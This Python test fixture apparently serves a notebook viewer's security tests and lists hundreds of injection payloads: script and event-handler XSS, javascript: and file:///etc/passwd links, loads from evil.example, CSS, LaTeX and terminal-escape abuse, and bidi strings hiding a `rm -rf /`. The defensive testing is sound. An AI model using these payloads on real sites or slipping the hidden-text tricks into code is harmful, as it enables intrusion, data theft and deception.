"""List injection payloads that a hostile server might send to any view or output.

`EVIL` stands for an address that must not be requested, `RUN` for a script that must
not run, and `⏎` for a line break. The first two contain the number of the string, to
identify the one that got through.
"""
# ruff: noqa: E501

from __future__ import annotations

HOST = "evil.example"
"""A request with this in its address was caused by one of the strings."""

_SCRIPTS = """
<script>RUN</script>
<script src=EVIL></script>
<SCRIPT/XSS SRC="EVIL"></SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script type=module>import "EVIL"</script>
</script><script>RUN</script>
</pre></code></details></div></div><script>RUN</script>
</textarea></title></style><script>RUN</script>
<![CDATA[<script>RUN</script>]]>
<!--><script>RUN</script>-->
<!-- --!><img src=EVIL onerror=RUN>
<?xml version="1.0"?><script>RUN</script>
<template><script>RUN</script></template>
<noscript><p title="</noscript><img src=EVIL onerror=RUN>">
<xmp><p title="</xmp><img src=EVIL onerror=RUN>">
"""

_HANDLERS = """
<img src=EVIL onerror=RUN>
<img/src="EVIL"/onerror="RUN">
<IMG SRC=EVIL ONERROR=RUN>
<body onload=RUN background=EVIL>
<input autofocus onfocus=RUN>
<details open ontoggle=RUN><summary>x</summary></details>
<video src=EVIL onerror=RUN autoplay></video>
<audio src=EVIL onloadstart=RUN autoplay></audio>
<marquee onstart=RUN>x</marquee>
<b onmouseover=RUN style="position:fixed;inset:0">x</b>
<div onpointerenter=RUN onanimationstart=RUN style="animation:nbs-pulse 1s">x</div>
" onmouseover="RUN" autofocus onfocus="RUN" x="
' onmouseover='RUN' autofocus onfocus='RUN' x='
`"'><img src=EVIL onerror=RUN>
<img src=x:x onerror&#61;RUN>
<img src="x` `<script>RUN</script>"` `>
<a href=# onclick=RUN accesskey=x>x</a>
"""

_ADDRESSES = """
<a href="javascript:RUN">x</a>
<a href="java&#9;script:RUN">x</a>
<a href="&#106;avascript&colon;RUN">x</a>
<a href="\x01javascript:RUN">x</a>
<a href=vbscript:RUN>x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href=https://example.org/ ping=EVIL>x</a>
<a href=https://example.org/ style="position:fixed;inset:0;z-index:9999">x</a>
<javascript:RUN>
<EVIL>
[x](javascript:RUN)
[x](JaVaScRiPt:RUN)
[x](javascript&colon;RUN)
[x](java\tscript:RUN)
[x](<javascript:RUN>)
[x](&#x6A;avascript:RUN)
[x](%6Aavascript:RUN)
[x]( \x01javascript:RUN)
[x](vbscript:RUN)
[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=RUN>)
[x](file:///etc/passwd)
[x](blob:https://evil.example/x)
[x](filesystem:https://evil.example/x)
[x](//evil.example/x)
[x](/lab/api/evil.example)
[x](https://user:word@evil.example/x)
[x](EVIL "\\" onmouseover=RUN \\"")
[x](EVIL"onmouseover=RUN)
[x]: javascript:RUN
[x](#content)
"""

_LOADS = """
<img src=EVIL>
<img srcset="EVIL 1x, EVIL?2 2x">
<picture><source srcset=EVIL><img src=EVIL></picture>
<video poster=EVIL><track src=EVIL></video>
<input type=image src=EVIL>
<iframe src=EVIL></iframe>
<iframe srcdoc="<script>parent.RUN</script><img src=EVIL>"></iframe>
<object data=EVIL><embed src=EVIL></object>
<frameset><frame src=EVIL></frameset>
<link rel=stylesheet href=EVIL><link rel=preload as=image href=EVIL>
<link rel=dns-prefetch href=EVIL><link rel=preconnect href=EVIL>
<base href=EVIL/ target=_top>
<meta http-equiv=refresh content="0;url=EVIL">
<form action=EVIL id=evil-form><input name=x><button formaction=EVIL>x</button></form>
<button form=evil-form formaction="javascript:RUN">x</button>
<table background=EVIL><td background=EVIL>x</table>
<portal src=EVIL></portal><fencedframe src=EVIL></fencedframe>
<applet code=x archive=EVIL></applet>
"""

_GRAPHICS = """
<svg onload=RUN>
<svg><script href=EVIL>RUN</script></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><image href=EVIL /><use href="EVIL#x"/></svg>
<svg><foreignObject><iframe src=EVIL onload=RUN></iframe></foreignObject></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set attributeName=href to="javascript:RUN"/></svg>
<svg><style>*{background:url(EVIL)}</style></svg>
<svg><filter><feImage href=EVIL /></filter></svg>
<math><mi xlink:href="javascript:RUN">x</mi></math>
<math><maction actiontype="statusline#EVIL" xlink:href=EVIL>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=EVIL onerror=RUN></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=EVIL onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=EVIL onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=EVIL onerror=RUN>
"""

_STYLES = """
<style>@import "EVIL";</style>
<style>*{background:url(EVIL)!important;display:none!important}</style>
<p style="background:url(EVIL)">x</p>
<p style="position:fixed;inset:0;z-index:99999;background:#f00">x</p>
<p style="position:absolute;top:-999px;width:9999px;height:9999px">x</p>
<p style="width:expression(RUN);behavior:url(EVIL);-moz-binding:url(EVIL)">x</p>
<p class="jp-Dialog lm-Widget jp-mod-styled" style="display:block">x</p>
<p style="background:\\75\\72\\6c(EVIL)">x</p>
<font color="red;background:url(EVIL)">x</font>
"""

_MARKDOWN = """
![x](EVIL)
![x](EVIL "t")
![x][r]⏎⏎[r]: EVIL
![r]⏎⏎[r]: <EVIL> 't'
[r]⏎⏎[r]: javascript:RUN
![" onerror="RUN](EVIL)
[![x](EVIL)](javascript:RUN)
!\\[x](EVIL)
\\![x](EVIL)
`⏎⏎![x](EVIL)`
``` `⏎![x](EVIL)⏎```
    ![x](EVIL)
- a⏎⏎      ![x](EVIL)⏎  ![y](EVIL)
> ```⏎![x](EVIL)
\\`![x](EVIL)`
| a |⏎|---|⏎| ![x](EVIL) |⏎| `|` ![y](EVIL) |
```"><img src=EVIL onerror=RUN>⏎code⏎```
````⏎```⏎<img src=EVIL onerror=RUN>⏎````
~~~html⏎<script>RUN</script>⏎~~~
~~~python⏎<img src=EVIL>
[^1]: <img src=EVIL onerror=RUN>⏎⏎x[^1]
[TOC] {{< RUN >}} {% RUN %} ${RUN} {{constructor.constructor('RUN')()}}
x{onclick=RUN .jp-Dialog #evil}
<details><summary>x</summary>⏎⏎![x](EVIL)⏎⏎</details>
<div markdown=1>⏎![x](EVIL)⏎</div>
EVIL/<img/src=x>
EVIL"onmouseover=RUN
http://[evil.example
![x](http://[evil.example)
text <b onmouseover=RUN>b</b>, and half a <img src=EVIL onerror="RUN
text, and <a href="EVIL
<
<!-
&lt;img src=EVIL onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62;
# <img src=EVIL> {#location}
<h1 id=location name=body>x</h1> <a name=cookie></a> <img name=getElementById>
<form name=forms><input name=attributes><input id=parentNode></form>
|a|⏎|-|
"""

_MATH = """
$\\href{javascript:RUN}{x}$
$\\href{EVIL}{x}$
$\\url{EVIL}$
$$\\includegraphics[width=9cm]{EVIL}$$
$\\htmlData{x=1}{y} \\htmlStyle{position:fixed;inset:0}{z}$
$\\style{position:fixed;inset:0;background:url(EVIL)}{x}$
$\\class{jp-Dialog}{x} \\cssId{location}{y}$
$\\require{html}\\href{javascript:RUN}{x}$
$\\gdef\\alpha{owned} \\global\\def\\sum{owned}$ $\\newcommand{\\beta}{owned}\\let\\int\\alpha$
$$\\def\\x{\\x\\x}\\x$$
$\\kern-2000px\\raise900px{\\rule{4000px}{4000px}}$
$\\unicode[EVIL]{x41} \\mmlToken{mi}[href="javascript:RUN"]{x}$
$<img src=EVIL onerror=RUN>$
$$⏎<img src=EVIL onerror=RUN>⏎$$
\\(<script>RUN</script>\\) \\[\\text{</span><img src=EVIL onerror=RUN>}\\]
$\\definecolor{blue}{RGB}{255,255,255}$ $\\definecolor{red}{named}{white}\\color{red}x$
$\\Newextarrow{\\frac}{5,10}{8672}$ $\\newtagform{x}{[}{]}\\renewtagform{default}{[}{]}\\usetagform{x}$
$\\def\\frac{x}$ $\\let\\frac\\alpha$ $\\newcommand{\\color}[1]{x}$ $\\renewcommand{\\alpha}{x}$
$\\DeclareMathOperator{\\frac}{x}$ $\\DeclarePairedDelimiter{\\frac}{|}{|}$ $\\newenvironment{align}{x}{y}$
$\\mathtoolsset{showonlyrefs} \\setOptions{tags=ams}$ $\\require{physics}\\require{colorv2}\\div$
$$\\begin{equation}\\label{eq:loss}x\\end{equation}$$⏎⏎$$\\label{eq:loss}\\tag{1}y$$ $\\eqref{eq:loss}$
$$⏎\\begin{align} a &= b \\label{eq:loss} \\\\ c &= d \\label{eq:loss} \\end{align}⏎$$
\\begin{align}\\definecolor{blue}{RGB}{255,255,255}\\def\\frac{x}\\end{align}
$$\\rule{3000em}{3000em}$$ $\\Rule{9em}{3000em}{0em}$ $\\Space{0em}{3000em}{0em}$ $\\raise1000em{x}$
$$a\\\\[3000em]b\\\\*[3000em]c\\\\ [3000em]d$$ $\\hspace{-3000em}\\kern3000em\\mskip-3000mu x$
$\\bbox[border:3000px solid red]{x}$ $\\enclose{box}[data-padding="3000em"]{x}$ $\\cancel[data-padding=3000em]{x}$
$\\llap{\\rlap{\\smash{x}}} \\mathllap{x} \\above3000pt y$ $\\genfrac{}{}{3000pt}{}{a}{b}$ $\\Huge\\Huge\\Huge x$
$\\toggle{x}{y}\\endtoggle$ $\\texttip{x}{y}$ $\\mathtip{x}{<img src=EVIL>}$ $\\U{41}\\char"41$
$\\begin{array}{*{100000}{c}}x\\end{array}$ $\\begin{array}{p{3000em}}x\\end{array}$ $\\begin{aligned}[3000em]x\\end{aligned}$
$\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{\\sqrt{x}}}}}}}}}}}}}}}}}}$
\\$\\\\definecolor{blue}{RGB}{255,255,255}\\\\def\\\\frac{x}\\$ \\$&#92;def&#92;frac{x}\\$ &#36;\\d&#101;f\\frac{x}&#36;
$ `\\def\\frac{x}` $ \\$ `\\def\\frac{x}` \\$ \\\\(\\\\def\\\\frac{x}\\\\) \\\\[\\\\def\\\\frac{x}\\\\]
$ \\def\\frac{x} $ see a@b.example $ \\definecolor{blue}{RGB}{255,255,255} $ https://example.org/
\\\\begin{align}\\\\def\\\\frac{x}\\\\end{align} \\\\&#98;egin{align}\\def\\frac{x}\\\\&#101;nd{align}
$x % \\def$⏎$ \\def\\frac{x}$ $\\^^64ef\\frac{x}$ $\\d\u0435f\\frac{x}$ $\\de\u200bf\\frac{x}$
"""

_CHARACTERS = [
    "\u202eRUN<img src=EVIL>",
    "\u202e\u2066\u202dx\u2069",
    "\u2066\u2067\u2068 unclosed isolates",
    "\u200bzero\u200cwidth\u200d\ufeff\u2060<\u200bimg src=EVIL>",
    "\x1b[31m<img src=EVIL onerror=RUN>\x1b[0m",
    "\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07",
    "\x1b]8;;EVIL\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]0;title\x07\x1b]52;c;RUN\x07\x1b[2J\x1b[1;1H\x1bPq\x1b\\\x9b31m",
    "\x1b[38;2;1;2;3m;background:url(EVIL)\x1b[48;5;999999m\x1b[31;url(EVIL)mx",
    "a\x00b<scr\x00ipt>RUN</scr\x00ipt>",
    "<img\x00src=EVIL\x0conerror=RUN>",
    "<img src=EVIL\r\nonerror=RUN>",
    "\ud800 \udfff<img src=EVIL>",
    "half an emoji \ud83d",
    "\ufdd0\uffff\U0010ffff\u2028\u2029RUN",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305" + "\u0306" * 300,
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e \u02bb\u02bc\u2039img\u203a",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "=HYPERLINK(EVIL)",
    "data: RUN\n\nevent: error\ndata: x",
    *("__proto__", "constructor", "prototype", "toString", "hasOwnProperty"),
    *("length", "then", "valueOf", "__defineGetter__", "toJSON"),
    "<b>" * 400 + "<img src=EVIL onerror=RUN>",
    "> " * 300 + "![x](EVIL)",
    "[" * 300 + "x](EVIL)",
    "$$" + "\\sqrt{" * 250 + "x" + "}" * 250 + "$$",
    "$$x" + "\\\\[9em]" * 200 + "$$",
    "$$" + "\\frac{1}{" * 150 + "x" + "}" * 150 + "$$",
    '[{"a":' * 40 + '"<img src=EVIL>"',
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"x":"\\ud800"}',
]


# Invisible characters that reorder text on the screen, or hide part of it.
_UNSEEN = [
    "photo_\u202egpj.exe",
    'access = "user\u202e \u2066// Check if admin\u2069 \u2066"',
    '```python⏎if level != "user\u202e \u2066// Check if admin\u2069 \u2066":⏎    pass⏎```',
    "`rm -rf \u202e/ emoh\u202c`",
    "[\u202emoc.knab\u202c](EVIL/\u202etxt.exe)",
    "EVIL/\u202egpj.exe",
    '[safe\u200e](https://example.org/\u200b\u2066x "\u202eeltit")',
    "| \u202ea | b |⏎|---|---|⏎| \u2067c | \u2068d\u2069 |",
    "# \u202bheading\u202c⏎⏎> \u202dquote⏎⏎- \u202aitem",
    "$x\u202e + y$",
    "100\u200f - 20\u200e = 80\u061c",
    "שלום \u202eevil\u202c עולם (C++\u200e)",
    "مرحبا \u2067evil\u2069 بالعالم\u200f!",
    "hidden\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 orders",
    "\u2764\ufe0f\ufe0f\U000e0100\U000e0101 \u206a\u206f \ufff9a\ufffab\ufffb",
    "one\u2028two\u2029three",
    "\u202e" * 2000,
    "\U000e0041" * 500,
    "\u202e<img src=EVIL onerror=RUN>\u202c",
]


def _numbered() -> list[str]:
    groups = (_SCRIPTS, _HANDLERS, _ADDRESSES, _LOADS, _GRAPHICS, _STYLES, _MARKDOWN)
    lines = [
        line for group in (*groups, _MATH) for line in group.strip("\n").split("\n")
    ]
    return [
        text.replace("⏎", "\n")
        .replace("EVIL", f"https://{HOST}/{number}")
        .replace("RUN", f"ran({number})")
        for number, text in enumerate([*lines, *_CHARACTERS, *_UNSEEN])
    ]


STRINGS = _numbered()
"""Each is one value: a text, a name, a key. A line break in it is part of it."""
